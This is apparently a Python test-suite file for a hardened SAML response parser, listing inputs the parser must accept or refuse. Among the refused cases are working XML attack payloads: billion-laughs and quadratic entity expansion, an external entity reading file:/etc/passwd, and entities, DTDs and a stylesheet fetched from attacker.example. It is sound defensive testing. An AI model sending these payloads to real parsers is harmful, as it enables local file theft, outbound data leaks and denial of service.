"""One parse, hardened and bounded: what is not one well-formed document without a DOCTYPE, in every namespace's rules."""
from mint import *
from suite import Suite

S = Suite("parse", "well-formed documents without DOCTYPE and processing instructions, inside the limits", "documented",
          ["w3c-xml"])
PLAIN = respond()
DOCTYPE = "saml.parse.doctype"
MALFORMED = "saml.parse.well-formed"
PEERS = ["w3c-xml", "saml-peers"]


def doctype(inner, document=PLAIN):
    return f"<!DOCTYPE samlp:Response {inner}>\n" + document


S.refuse("doctype-empty", "a DOCTYPE that declares nothing", DOCTYPE, doctype("[]"), cites=PEERS)
S.refuse("doctype-name", "a DOCTYPE that only names the root", DOCTYPE, doctype(""), cites=PEERS)
S.refuse("doctype-behind-declaration", "a DOCTYPE behind an XML declaration", DOCTYPE, '<?xml version="1.0"?>' + doctype("[]"), twin="declaration-bare", cites=PEERS)
S.refuse("doctype-behind-comment", "a DOCTYPE behind a comment", DOCTYPE, "<!-- hello -->" + doctype("[]"), twin="comment-before", cites=PEERS)
S.refuse("laughs", "entities that grow by ten at each of nine levels", DOCTYPE, doctype(
    '[<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)) + "]",
    PLAIN.replace(">ada</saml:NameID>", ">&l9;</saml:NameID>")), cites=PEERS)
S.refuse("quadratic", "one long entity, named often", DOCTYPE, doctype(
    f'[<!ENTITY e "{"x" * 2000}">]', PLAIN.replace(">ada</saml:NameID>", f">{'&e;' * 500}</saml:NameID>")), cites=PEERS)
S.refuse("entity-internal", "an entity in a signed name", DOCTYPE, doctype(
    '[<!ENTITY e "ada">]', PLAIN.replace(">ada</saml:NameID>", ">&e;</saml:NameID>")), cites=PEERS)
S.refuse("entity-file", "an entity that is a file", DOCTYPE, doctype(
    '[<!ENTITY e SYSTEM "file:/etc/passwd">]', PLAIN.replace(">ada</saml:NameID>", ">&e;</saml:NameID>")), cites=PEERS)
S.refuse("entity-http", "an entity that is on the network", DOCTYPE, doctype(
    '[<!ENTITY e SYSTEM "http://attacker.example/e">]', PLAIN.replace(">ada</saml:NameID>", ">&e;</saml:NameID>")), cites=PEERS)
S.refuse("entity-parameter", "a parameter entity", DOCTYPE, doctype('[<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]'), cites=PEERS)
S.refuse("doctype-system", "an external DTD", DOCTYPE, doctype('SYSTEM "http://attacker.example/d"'), cites=PEERS)
S.refuse("doctype-public", "an external DTD with a public name", DOCTYPE, doctype('PUBLIC "-//A//B" "http://attacker.example/d"'), cites=PEERS)
S.refuse("attlist-default", "a default attribute for NameID", DOCTYPE, doctype('[<!ATTLIST saml:NameID NameQualifier CDATA "x">]'), cites=PEERS)
S.refuse("attlist-id", "an attribute declared to be of type ID", DOCTYPE, doctype("[<!ATTLIST saml:Subject x ID #IMPLIED>]"), cites=["w3c-xml", "saml-void-c14n"])
S.refuse("doctype-differential", "a DOCTYPE whose quotation marks hide another document", DOCTYPE, doctype(
    "[<!ENTITY a '\"<!--'><!ENTITY b \"-->'\">]"), cites=["w3c-xml", "saml-parser-differentials"])
S.refuse("doctype-inside", "a DOCTYPE inside the response", MALFORMED, PLAIN.replace("<samlp:Status>", "<!DOCTYPE x><samlp:Status>"), cites=["w3c-xml"])
S.accept("comment-before", "a comment before the response", "<!-- hello -->" + PLAIN)
S.accept("comment-doctype", "a comment that speaks of a DOCTYPE", "<!-- <!DOCTYPE x> -->" + PLAIN)
S.accept("text-doctype", "a name that looks like a DOCTYPE", respond((">ada</saml:NameID>", "><![CDATA[<!DOCTYPE x>]]></saml:NameID>")), {"name_id": "<!DOCTYPE x>"})
S.accept("white-space-around", "white space before and behind the response", "\n \t" + PLAIN + "\n\n")
S.refuse("entity-undeclared", "an entity that nobody declared", MALFORMED, PLAIN.replace(">ada</saml:NameID>", ">&e;</saml:NameID>"))
S.refuse("two-roots", "two responses, one behind the other", MALFORMED, PLAIN + PLAIN)
S.refuse("text-before", "text before the response", MALFORMED, "hello" + PLAIN)
S.refuse("text-behind", "text behind the response", MALFORMED, PLAIN + "hello")
S.refuse("truncated", "a response cut short", MALFORMED, PLAIN[:-12])
S.refuse("end-tag", "an end tag of another element", MALFORMED, PLAIN.replace("</saml:Subject>", "</saml:Subjects>"))
S.refuse("html", "a page of HTML", MALFORMED, "<html><body><form><input name=SAMLResponse></form></body></html>")
S.refuse("json", "an object of JSON", MALFORMED, '{"response": "<samlp:Response/>"}'.encode())
S.refuse("attribute-twice", "an attribute twice", MALFORMED, PLAIN.replace(' ID="_r1"', ' ID="_r1" ID="_r2"'))
S.refuse("less-than-in-value", "a less-than sign in an attribute", MALFORMED, PLAIN.replace(' ID="_r1"', ' ID="_r1" Consent="<"'))
NAMES = {"cites": ["w3c-xml-names", "saml-peers"]}
S.refuse("prefix-undeclared", "a prefix that nobody declared", MALFORMED, respond(after=("<samlp:Status>", "<x:y/><samlp:Status>")), **NAMES)
S.refuse("attribute-prefix-undeclared", "an attribute whose prefix nobody declared", MALFORMED, respond(after=(' ID="_r1"', ' ID="_r1" x:y="1"')), **NAMES)
S.refuse("attribute-expanded-twice", "two attributes of one expanded name", MALFORMED,
         respond(after=(' ID="_r1"', ' xmlns:a="urn:x" xmlns:b="urn:x" a:y="1" b:y="2" ID="_r1"')), **NAMES)
S.refuse("xml-bound", "the prefix xml bound to another namespace", MALFORMED, respond(after=(' ID="_r1"', ' xmlns:xml="urn:x" ID="_r1"')), **NAMES)
S.refuse("xmlns-bound", "the prefix xmlns bound", MALFORMED, respond(after=(' ID="_r1"', ' xmlns:xmlns="urn:x" ID="_r1"')), **NAMES)
S.refuse("xml-namespace-bound", "another prefix bound to the namespace of xml", MALFORMED,
         respond(after=(' ID="_r1"', ' xmlns:a="http://www.w3.org/XML/1998/namespace" ID="_r1"')), **NAMES)
S.refuse("prefix-undone", "a prefix bound to no namespace", MALFORMED, respond(after=(' ID="_r1"', ' xmlns:a="" ID="_r1"')), **NAMES)
S.refuse("prefix-colons", "a name with two colons", MALFORMED, respond(after=("<samlp:Status>", "<samlp:a:b/><samlp:Status>")), **NAMES)
PI = {"evidence": "local", "cites": ["w3c-xml", "weir-local"]}
INSTRUCTION = "saml.parse.instruction"
S.refuse("instruction-before", "a processing instruction before the response", INSTRUCTION, "<?x y?>" + PLAIN, twin="comment-before", **PI)
S.refuse("instruction-behind", "a processing instruction behind the response", INSTRUCTION, PLAIN + "<?x y?>", **PI)
S.refuse("instruction-inside", "a processing instruction in the unsigned part", INSTRUCTION, respond(after=("<samlp:Status>", "<?x y?><samlp:Status>")), **PI)
S.refuse("instruction-signed", "a processing instruction that is signed", INSTRUCTION, respond(("<saml:Subject>", "<?x y?><saml:Subject>")), **PI)
S.refuse("stylesheet", "a stylesheet for the response", INSTRUCTION, '<?xml-stylesheet href="http://attacker.example/s" type="text/xsl"?>' + PLAIN, twin="comment-before", **PI)
# Limits, each with the most that is taken.
LIMITS = {"evidence": "local", "cites": ["weir-local"]}


def nested(levels):
    """An AttributeValue whose depth, the root's being 1, is `levels`, by way of Advice, which holds anything."""
    inner = levels - 3
    return respond(("    <saml:AuthnStatement ", "    <saml:Advice>" + '<x:e xmlns:x="urn:x">' + "<x:e>" * (inner - 1) + "</x:e>" * inner +
                    "</saml:Advice>\n    <saml:AuthnStatement "))


def count(text):
    """The elements, attributes, namespace declarations, texts and comments of a document."""
    return sum(1 + bool(each.text) + bool(each.tail) for each in parse(text).iter()) + len(re.findall(r'[\w:]+="', text))


def nodes(wanted):
    """A response of so many nodes."""
    made = [respond(("    <saml:AuthnStatement ", '    <saml:Advice><e xmlns="urn:x">' + "<f/>" * more + "</e></saml:Advice>\n    <saml:AuthnStatement "))
            for more in (1, wanted + 1 - count(respond(("    <saml:AuthnStatement ", '    <saml:Advice><e xmlns="urn:x"><f/></e></saml:Advice>\n    <saml:AuthnStatement '))))]
    assert count(made[1]) == wanted
    return made[1]


def attributes(count):
    return respond(('<saml:AttributeValue>ada<', '<saml:AttributeValue xmlns:x="urn:x"' + "".join(f' x:a{n}="1"' for n in range(count)) + ">ada<"))


def declarations(count):
    """Namespace declarations beside the five of a plain response."""
    return respond(('<saml:AttributeValue>ada<', "<saml:AttributeValue" + "".join(f' xmlns:n{n}="urn:n{n}"' for n in range(count)) + ">ada<"))


def long_text(count):
    return respond(("    <saml:AuthnStatement ", f'    <saml:Advice><e xmlns="urn:x">{"a" * count}</e></saml:Advice>\n    <saml:AuthnStatement '))


S.accept("depth-most", "a depth of 32", nested(32), **LIMITS)
S.refuse("depth-over", "a depth of 33", "saml.parse.depth", nested(33), twin="depth-most", **LIMITS)
S.refuse("depth-deep", "a depth of two thousand", "saml.parse.depth", nested(2000), twin="depth-most", **LIMITS)
S.accept("nodes-most", "4000 nodes, attributes and declarations among them", nodes(4000), **LIMITS)
S.refuse("nodes-over", "4001 nodes", "saml.parse.nodes", nodes(4001), twin="nodes-most", **LIMITS)
S.accept("attributes-most", "64 attributes of one element", attributes(64), **LIMITS)
S.refuse("attributes-over", "65 attributes of one element", "saml.parse.attributes", attributes(65), twin="attributes-most", **LIMITS)
S.accept("declarations-many", "many namespace declarations", declarations(50), **LIMITS)
S.refuse("declarations-over", "more namespace declarations than 64 in one scope", "saml.parse.namespaces", declarations(70), twin="declarations-many", **LIMITS)
S.accept("name-most", "an element name of 256 bytes", respond(("    <saml:AuthnStatement ", f'    <saml:Advice><e{"x" * 255} xmlns="urn:x"/></saml:Advice>\n    <saml:AuthnStatement ')), **LIMITS)
S.refuse("name-over", "an element name of 257 bytes", "saml.parse.name", respond(
    ("    <saml:AuthnStatement ", f'    <saml:Advice><e{"x" * 256} xmlns="urn:x"/></saml:Advice>\n    <saml:AuthnStatement ')), twin="name-most", **LIMITS)
S.accept("text-most", "a text of 65536 bytes", long_text(65536), **LIMITS)
S.refuse("text-over", "a text of 65537 bytes", "saml.parse.text", long_text(65537), twin="text-most", **LIMITS)
S.accept("value-most", "an attribute of 65536 bytes", respond(('SessionIndex="_s1"', f'SessionIndex="{"a" * 65536}"')), **LIMITS)
S.refuse("value-over", "an attribute of 65537 bytes", "saml.parse.text", respond(('SessionIndex="_s1"', f'SessionIndex="{"a" * 65537}"')), twin="value-most", **LIMITS)
RELATIVE = {"cites": ["saml-void-c14n", "w3c-xml-names"], "evidence": "observed"}
S.refuse("namespace-relative", "a namespace that is a relative URI, which cannot be canonicalised", "saml.parse.namespace-uri",
         respond(after=('<saml:AttributeValue>ada<', '<saml:AttributeValue xmlns:r="./relative">ada<')), **RELATIVE)
S.refuse("namespace-relative-root", "a relative namespace on the response", "saml.parse.namespace-uri",
         respond(after=(' ID="_r1"', ' xmlns:r="relative" ID="_r1"')), **RELATIVE)
S.refuse("namespace-relative-signature", "a relative namespace in SignedInfo", "saml.parse.namespace-uri",
         respond(after=("<ds:SignedInfo>", '<ds:SignedInfo xmlns:r="1">')), **RELATIVE)
S.accept("namespace-urn", "a namespace more, with a scheme", respond(after=(' ID="_r1"', ' xmlns:r="urn:more" ID="_r1"')), cites=["w3c-xml-names"])
